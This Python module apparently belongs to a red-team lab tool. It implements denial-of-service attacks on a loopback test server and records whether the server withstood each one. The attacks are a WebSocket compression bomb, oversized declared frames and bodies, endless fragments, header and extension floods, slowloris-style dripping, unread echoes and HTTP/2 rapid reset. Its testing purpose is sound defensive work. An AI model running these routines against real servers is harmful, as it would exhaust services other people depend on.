"""Attacks that want to exhaust a server: its memory, its descriptors, or its patience.

Each is a function of a running lab and of how long the attacker waits to see whether he is thrown out.
"""

from __future__ import annotations

import functools
import threading
import zlib
from collections.abc import Callable, Sequence

from rtlab import clock
from rtlab.codecs.http2_frames import HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, Http2Frame, encode_http2_frame
from rtlab.codecs.websocket_frames import BINARY, CONTINUATION, PONG, TEXT, encode_frame
from rtlab.codecs.websocket_frames import PING as WS_PING
from rtlab.experiments.loopback import LOOPBACK, Line
from rtlab.findings.exhaustion import Strike
from rtlab.servers.lab import Lab

Attack = Callable[[Lab, float], Strike]

MIB = 1_048_576
BOMB_BYTES = 32 * MIB
DECLARED_BYTES = 1 << 40
SMALL_BYTES = 4_096
RESETS = 4_000
"""More than the allowance and what it gives back meanwhile."""
_DRIP_S = 0.05
_SERVED_S = 60.0
_MASK = b"\x0b\x0a\x0d\x05"
ANNOUNCED = bytes([0x80 | BINARY, 0x80 | 127]) + DECLARED_BYTES.to_bytes(8) + _MASK
"""The header of a frame with a message of 2^40 bytes."""
SLOW_HEAD = f"GET /sse/news HTTP/1.1\r\nHost: {LOOPBACK}\r\nX-Filling: ".encode()
"""The head of a request that never ends."""


@functools.cache
def bomb_frame(size_bytes: int) -> bytes:
    """Give a frame with a compressed message of so many zeros; it is some 1,000 times smaller.

    Spec: RFC 7692 7.2.1
    """
    press = zlib.compressobj(9, wbits=-15)
    data = press.compress(bytes(size_bytes)) + press.flush(zlib.Z_SYNC_FLUSH)
    return encode_frame(BINARY, data[:-4], rsv1=True, masking_key=_MASK)


def bomb(lab: Lab, patience_s: float) -> Strike:
    """Send a small compressed message that is a large one."""
    with Line(lab.port) as line:
        line.open_websocket(offer="permessage-deflate; client_no_context_takeover; server_no_context_takeover")
        began_ns = clock.now_ns()
        line.send(bomb_frame(BOMB_BYTES))
        times = f"{line.bytes_up / 1e3:.0f} kB for {BOMB_BYTES / MIB:.0f} MiB"
        return _judged(line, began_ns, BINARY, f"The server unpacked all of it: {times}.", times)


def declared(lab: Lab, patience_s: float) -> Strike:
    """Announce a message of 2^40 bytes, and send none of them."""
    with Line(lab.port) as line:
        line.open_websocket()
        began_ns = clock.now_ns()
        line.send(ANNOUNCED)
        refused = line.frame(within_s=min(patience_s, 2.0))
        if refused is None:
            seen = "The server cut the line." if line.is_over else "The server waits for 2^40 bytes."
            return strike_of(line, not line.is_over, seen, began_ns)
        return strike_of(line, False, f"{_close(refused.payload)} from the header alone.", began_ns)


def endless_fragments(lab: Lab, patience_s: float) -> Strike:
    """Send fragment after fragment of one message that never ends."""
    piece = encode_frame(CONTINUATION, bytes(65_536), fin=False, masking_key=_MASK)
    return _fragments(lab, [piece] * 128, "8 MiB in 129 fragments")


def tiny_fragments(lab: Lab, patience_s: float) -> Strike:
    """Send thousands of empty fragments of one message."""
    pieces = encode_frame(CONTINUATION, b"", fin=False, masking_key=_MASK) * 1_000
    return _fragments(lab, [pieces] * 20, "20,001 fragments with one byte in all")


def endless_head(lab: Lab, patience_s: float) -> Strike:
    """Send header fields without end."""
    return _head(lab, b"X-Filling: " + b"x" * 1_000 + b"\r\n", "1,000 fields", 1_000)


def many_extensions(lab: Lab, patience_s: float) -> Strike:
    """Offer a hundred thousand extensions in one opening handshake."""
    fields = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    fields += b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Extensions: " + b"x;y=1, " * 100_000
    return _head(lab, fields + b"z\r\n", "100,001 extensions", 1, "/echo")


def large_body(lab: Lab, patience_s: float) -> Strike:
    """Announce a body of 2^40 bytes, and begin to send it."""
    with Line(lab.port) as line:
        began_ns = clock.now_ns()
        line.send(post_head("/publish/news", DECLARED_BYTES))
        for _ in range(64):
            if not line.send(bytes(65_536)):
                break
        over = line.ends(min(patience_s, 2.0))
        seen = "The server had enough of it." if over else "The server took 4 MiB of 2^40 bytes and waits for more."
        return strike_of(line, not over, seen, began_ns)


def slow_head(lab: Lab, patience_s: float) -> Strike:
    """Send a request's head byte by byte (slowloris)."""
    return _drip(lab, b"", SLOW_HEAD, patience_s)


def slow_body(lab: Lab, patience_s: float) -> Strike:
    """Send a request's body byte by byte."""
    return _drip(lab, post_head("/publish/news", 10_000), b"", patience_s)


def silent_websocket(lab: Lab, patience_s: float) -> Strike:
    """Open a WebSocket and never answer a ping."""
    with Line(lab.port) as line:
        line.open_websocket()
        began_ns = clock.now_ns()
        over = line.ends(patience_s)
        seen = "The server gave it up." if over else f"After {patience_s:.1f} s the server still keeps it."
        return strike_of(line, not over, seen, began_ns)


def deaf_sender(lab: Lab, patience_s: float) -> Strike:
    """Send 24 MiB to be echoed, and never read an echo."""
    with Line(lab.port, receive_bytes=SMALL_BYTES) as line:
        line.open_websocket()
        began_ns = clock.now_ns()
        message = encode_frame(BINARY, bytes(MIB // 2), masking_key=_MASK)
        for _ in range(48):
            if not line.send(message):
                break
        kept = 0
        for _ in range(40):  # what the system still holds is on its way
            kept = max([each.buffered_bytes for each in lab.connections if each.channel == "echo"], default=0)
            if line.is_over or not kept or kept > 12 * MIB:
                break
            pause(0.05)
        seen = f"The server keeps {kept / MIB:.0f} MiB for it." if kept else "The server has cut it."
        return strike_of(line, kept > 8 * MIB, seen, began_ns)


def rapid_reset(lab: Lab, patience_s: float) -> Strike:
    """Open streams of HTTP/2 and reset each at once, over and over."""
    head = b"\x82\x87\x84\x41\x09127.0.0.1"  # GET, https, /, and the authority (RFC 7541 A)
    with Line(lab.port, ca_pem=lab.ca_pem, http2=True) as line:
        began_ns = clock.now_ns()
        ping, pong = (_frame(PING, b"alive???", 0, flag) for flag in (0, 1))
        numbers, cancel = range(1, 2 * RESETS, 2), (8).to_bytes(4)
        resets = [_frame(HEADERS, head, each, 5) + _frame(RST_STREAM, cancel, each) for each in numbers]
        line.send(PREFACE + _frame(SETTINGS) + b"".join(resets) + ping)
        alive = pong in line.reads(pong, _SERVED_S)
        seen = f"The server served all {RESETS:,} of them." if alive else "ENHANCE_YOUR_CALM, and the end."
        return strike_of(line, alive, seen, began_ns)


def _fragments(lab: Lab, pieces: Sequence[bytes], all_of_it: str) -> Strike:
    with Line(lab.port) as line:
        line.open_websocket()
        began_ns = clock.now_ns()
        line.send(encode_frame(TEXT, b"x", fin=False, masking_key=_MASK))
        for piece in pieces:
            if not line.send(piece):
                break
        line.send(encode_frame(WS_PING, b"alive?", masking_key=_MASK))
        return _judged(line, began_ns, PONG, f"The server took {all_of_it}, and waits for more.", all_of_it)


def _head(lab: Lab, piece: bytes, what: str, count: int, target: str = "/") -> Strike:
    with Line(lab.port) as line:
        began_ns = clock.now_ns()
        line.send(f"GET {target} HTTP/1.1\r\nHost: {LOOPBACK}:{lab.port}\r\n".encode())
        for _ in range(count):
            if not line.send(piece):
                break
        line.send(b"\r\n")
        answered = b"HTTP/1.1 " in line.reads(b"\r\n\r\n")
        seen = f"The server read {what} and answered." if answered else "The server closed before their end."
        return strike_of(line, answered, seen, began_ns)


def _drip(lab: Lab, at_once: bytes, head: bytes, patience_s: float) -> Strike:
    with Line(lab.port) as line:
        began_ns, over = clock.now_ns(), False
        if at_once:
            line.send(at_once)
        for number in range(round(patience_s / _DRIP_S)):
            over = not line.send(head[number : number + 1] or b"x") or line.ends(_DRIP_S)
            if over:
                break
        seen = "The server closed." if over else f"After {patience_s:.1f} s the server still waits."
        return strike_of(line, not over, seen, began_ns)


def _judged(line: Line, began_ns: int, wanted: int, success: str, what: str) -> Strike:
    """Wait for the frame that tells of success, or for the refusal."""
    answer = line.frame(wanted)
    if answer is not None and answer.opcode == wanted:
        return strike_of(line, True, success, began_ns)
    silence = "The server cut the line" if line.is_over else "The server gave no answer"
    refusal = _close(answer.payload) if answer else silence
    return strike_of(line, False, f"{refusal}; sent were {what}.", began_ns)


def strike_of(line: Line, succeeded: bool, seen: str, began_ns: int, *others: Line) -> Strike:
    """Write down what became of a strike; the first line shows its bytes."""
    lines = (line, *others)
    up, down = sum(each.bytes_up for each in lines), sum(each.bytes_down for each in lines)
    spent_ns = None if succeeded else clock.now_ns() - began_ns
    return Strike(succeeded, seen, line.sent, line.received, up, down, spent_ns)


def _close(payload: bytes) -> str:
    return f"Closed with {int.from_bytes(payload[:2])} ({payload[2:].decode(errors='replace')})"


def _frame(kind: int, payload: bytes = b"", stream: int = 0, flags: int = 0) -> bytes:
    return encode_http2_frame(Http2Frame(kind, flags, stream, payload))


def post_head(target: str, length: int) -> bytes:
    """Write the head of a POST request."""
    return f"POST {target} HTTP/1.1\r\nHost: {LOOPBACK}\r\nContent-Length: {length}\r\n\r\n".encode()


def pause(seconds: float) -> None:
    """Wait."""
    threading.Event().wait(seconds)
